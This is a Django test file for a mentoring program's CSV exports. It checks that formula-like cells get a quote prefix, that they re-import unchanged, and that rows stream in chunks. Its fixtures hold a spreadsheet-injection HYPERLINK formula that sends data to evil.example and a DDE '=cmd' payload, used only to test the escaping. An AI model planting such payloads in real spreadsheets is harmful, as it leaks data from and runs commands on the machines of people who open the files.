"""CSV exports never hand a spreadsheet a formula, and still re-import unchanged."""

import csv
import io

import pytest
from django.urls import reverse

from pairing.models import Pairing
from programs.importing import participants_import_plan
from programs.models import Participant
from programs.spreadsheets import LINES_PER_PIECE, csv_lines, safe_cell, unsafe_cell
from tests.factories import make_employee, make_live_pairing, make_participant

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        (FORMULA, "'" + FORMULA),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("Negotiation", "Negotiation"),
        ("'quoted", "'quoted"),
        ("", ""),
        (3, 3),
    ],
)
def test_safe_cell_marks_formulas_and_unsafe_cell_restores_them(value, exported):
    assert safe_cell(value) == exported
    if isinstance(value, str):
        assert unsafe_cell(safe_cell(value)) == value


def _text(response) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(_text(response))))


def test_participant_export_neutralises_a_planted_formula_and_reimports_unchanged(
    client, hr_admin, program
):
    make_participant(
        program=program,
        employee=make_employee(name="@Mallory", email="mallory@example.org", department="-Ops"),
        goals=[FORMULA, "Negotiation"],
    )
    client.force_login(hr_admin)
    response = client.get(reverse("hr:participant_export", args=[program.slug]))
    text = _text(response)
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[:3] == ["mallory@example.org", "'@Mallory", "'-Ops"]
    assert row[6] == "'" + FORMULA + ";Negotiation"
    plan = participants_import_plan(program=program, text=text)
    assert (plan.errors, plan.changes) == ([], 0)


def test_pairing_export_neutralises_names(client, hr_admin, program):
    mentor = make_participant(
        program=program,
        role=Participant.Role.MENTOR,
        employee=make_employee(name="=cmd|' /C calc'!A0", level=5),
    )
    make_live_pairing(program=program, guide=mentor, status=Pairing.Status.ACTIVE)
    client.force_login(hr_admin)
    response = client.get(reverse("hr:pairing_export", args=[program.slug]))
    cells = [cell for row in _rows(response)[1:] for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_csv_lines_stream_a_few_hundred_lines_a_piece():
    # One piece per line made a 10,000-row export cost a socket write per line.
    rows = [[n, f"=name {n}"] for n in range(2 * LINES_PER_PIECE + 1)]
    pieces = list(csv_lines(rows))
    assert [piece.count("\n") for piece in pieces] == [LINES_PER_PIECE, LINES_PER_PIECE, 1]
    assert list(csv.reader(io.StringIO("".join(pieces)))) == [
        [str(n), f"'=name {n}"] for n in range(2 * LINES_PER_PIECE + 1)
    ]
